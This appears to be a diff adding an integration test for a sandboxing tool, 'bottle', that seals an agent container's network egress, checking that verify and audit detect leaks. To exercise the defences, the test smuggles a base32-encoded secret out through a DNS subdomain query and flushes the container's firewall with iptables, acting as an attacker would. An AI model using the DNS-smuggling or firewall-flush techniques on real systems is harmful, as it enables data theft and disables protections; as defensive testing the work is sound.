@@ -1,0 +1,198 @@
+"""`bottle verify` and `bottle audit` end to end on the Docker example backend.
+
+The bottle's literal "internet" resolver is a fake upstream this test runs on the
+gateway of its own egress network (on this machine); no query leaves the machine.
+The suite must pass on the real bottle, and fail - exit 1, naming the leaks - on
+a bottle whose firewall was flushed behind bot-bottle's back; `bottle up` then
+restores it. The audit must show an encoded query the agent made, flagged, and
+never the agent's secret.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.fake_upstream import serve
+from tests.helpers import docker as _docker
+from tests.helpers import require_docker
+
+pytestmark = pytest.mark.integration
+
+BOTTLE = str(Path(sys.executable).parent / "bottle")
+NETWORK = "bbverify-egress"
+SUBNET = "172.29.249.0/24"
+GATEWAY = "172.29.249.1"
+NAME = "verifytest"
+SECRET = "bb-verify-secret-value-3a7c9d"
+ENCODED = base64.b32encode(SECRET.encode()).decode().rstrip("=").lower()
+
+require_docker()
+
+
+def run(*args: str) -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in os.environ.items() if k != "BOTTLE_DEBUG"}
+    env["BB_VERIFY_TOKEN"] = SECRET
+    return subprocess.run(
+        [BOTTLE, *args],
+        capture_output=True,
+        text=True,
+        env=env,
+        check=False,
+        timeout=900,
+        stdin=subprocess.DEVNULL,
+    )
+
+
+@pytest.fixture(scope="module")
+def inventory(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    base = tmp_path_factory.mktemp("verify")
+    assert _docker("network", "create", "--internal", "--subnet", SUBNET, NETWORK).returncode == 0
+    port, servers = serve(GATEWAY, 0, base / "upstream.log")
+    (base / f"{NAME}.yml").write_text(
+        "env:\n  TOKEN: ${BB_VERIFY_TOKEN}\n"
+        "runtime:\n  command: [sleep, infinity]\n"
+        "egress:\n  routes:\n    - host: verify.bbtest.example\n"
+    )
+    host = {
+        "ansible_connection": "local",
+        "ansible_python_interpreter": "/usr/bin/python3",
+        "bottle_backend": "docker",
+        "bottles": [{"manifest": f"{NAME}.yml"}],
+        "docker_bottle_upstream_dns": [f"{GATEWAY}#{port}"],
+        "docker_bottle_egress_network": NETWORK,
+        "docker_bottle_agent_image": "bot-bottle/netutils:latest",
+        # the literal resolver the bottle must not reach: this test's, on this machine
+        "bottle_verify_resolvers": [f"{GATEWAY}#{port}"],
+        "bottle_verify_strict": True,
+        "bottle_verify_audit_dir": str(base / "audit"),
+    }
+    path = base / "inventory.yml"
+    path.write_text(json.dumps({"all": {"hosts": {"localhost": host}}}))
+    try:
+        up = run("up", "-i", str(path))
+        assert up.returncode == 0, up.stdout + up.stderr
+        yield path
+    finally:
+        run("down", "-i", str(path))
+        for server in servers:
+            server.shutdown()
+            server.server_close()  # type: ignore[attr-defined]
+        _docker("network", "rm", NETWORK)
+
+
+def verify(inventory: Path) -> tuple[int, dict[str, Any], str]:
+    proc = run("verify", "-i", str(inventory), "--format", "json")
+    data: dict[str, Any] = json.loads(proc.stdout) if proc.stdout.startswith("{") else {}
+    return proc.returncode, data, proc.stdout + proc.stderr
+
+
+def checks(data: dict[str, Any]) -> dict[str, str]:
+    [row] = data["hosts"]["localhost"]
+    return {c["name"]: c["verdict"] for c in row["results"]}
+
+
+def test_the_example_bottle_is_sealed(inventory: Path) -> None:
+    code, data, output = verify(inventory)
+    assert code == 0, output
+    assert data["verdict"] == "sealed"
+    verdicts = checks(data)
+    for name in (
+        "allowed-name",
+        "subdomain-nxdomain-udp",
+        "subdomain-nxdomain-tcp",
+        "unlisted-nxdomain-udp",
+        "unlisted-nxdomain-tcp",
+        "docker-embedded-dns-udp",
+        "docker-embedded-dns-tcp",
+        "gateway-udp",
+        "gateway-tcp",
+        "gateway-dot",
+        f"literal-{GATEWAY}-udp",
+        f"literal-{GATEWAY}-tcp",
+        f"literal-{GATEWAY}-connect",
+    ):
+        assert verdicts.get(name) == "pass", (name, output)
+    # the probe left nothing behind in the agent
+    listing = _docker("exec", f"bottle-{NAME}", "ls", "-a", "/tmp").stdout
+    assert ".bottle-probe" not in listing
+
+
+def test_the_audit_shows_an_encoded_query_flagged_and_never_the_secret(inventory: Path) -> None:
+    # positive control: the allowlisted name resolves from the agent
+    ok = _docker(
+        "exec", f"bottle-{NAME}", "dig", "+short", "+time=2", "+tries=1", "verify.bbtest.example"
+    )
+    assert ok.stdout.strip() == "192.0.2.1"
+    smuggle = _docker(
+        "exec",
+        f"bottle-{NAME}",
+        "dig",
+        "+time=2",
+        "+tries=1",
+        "TXT",
+        f"{ENCODED}.verify.bbtest.example",
+    )
+    assert "status: NXDOMAIN" in smuggle.stdout
+    proc = run("audit", NAME, "-i", str(inventory), "--since", "1h", "--format", "json")
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    rows = [json.loads(line) for line in proc.stdout.splitlines()]
+    [hit] = [r for r in rows if r["name"] == f"{ENCODED}.verify.bbtest.example"]
+    assert hit["type"] == "TXT" and hit["verdict"] == "NXDOMAIN" and hit["host"] == "localhost"
+    assert "base32" in hit["flags"]
+    assert not [r for r in rows if r["name"].startswith("bottle-verify-")]  # the verifier's own
+    text = run("audit", NAME, "-i", str(inventory))
+    assert "! " in text.stdout and "flagged" in text.stdout
+    audit_dir = Path(
+        json.loads(inventory.read_text())["all"]["hosts"]["localhost"]["bottle_verify_audit_dir"]
+    )
+    stored = (audit_dir / f"{NAME}.jsonl").read_text()
+    assert ENCODED in stored
+    for blob in (proc.stdout, proc.stderr, text.stdout, text.stderr, stored):
+        assert SECRET not in blob
+
+
+def test_a_weakened_bottle_fails_verify_and_up_restores_it(inventory: Path) -> None:
+    # Plant the weakness the way an attacker with NET_ADMIN would: flush the bottle's rules.
+    flush = _docker(
+        "run",
+        "--rm",
+        "--network",
+        f"container:bottle-{NAME}-net",
+        "--cap-drop",
+        "ALL",
+        "--cap-add",
+        "NET_ADMIN",
+        "--entrypoint",
+        "sh",
+        "bot-bottle/netutils:latest",
+        "-c",
+        "iptables -F && iptables -X && ip6tables -F",
+    )
+    assert flush.returncode == 0, flush.stderr
+    code, data, output = verify(inventory)
+    assert code == 1, output
+    assert data["verdict"] == "leak"
+    verdicts = checks(data)
+    assert verdicts["docker-embedded-dns-udp"] == "leak"
+    assert verdicts["docker-embedded-dns-tcp"] == "leak"
+    assert verdicts["gateway-udp"] == "leak"
+    assert verdicts[f"literal-{GATEWAY}-connect"] == "leak"
+    assert "LEAKS" in output
+    # the text table names the leaking checks
+    text = run("verify", "-i", str(inventory))
+    assert text.returncode == 1 and "LEAK" in text.stdout and "gateway-udp" in text.stdout
+    # `bottle up` sees the rules are gone, reloads them, and verify passes again
+    up = run("up", "-i", str(inventory))
+    assert up.returncode == 0, up.stdout + up.stderr
+    assert "Load the rule sets" in up.stdout
+    code, data, output = verify(inventory)
+    assert code == 0 and data["verdict"] == "sealed", output
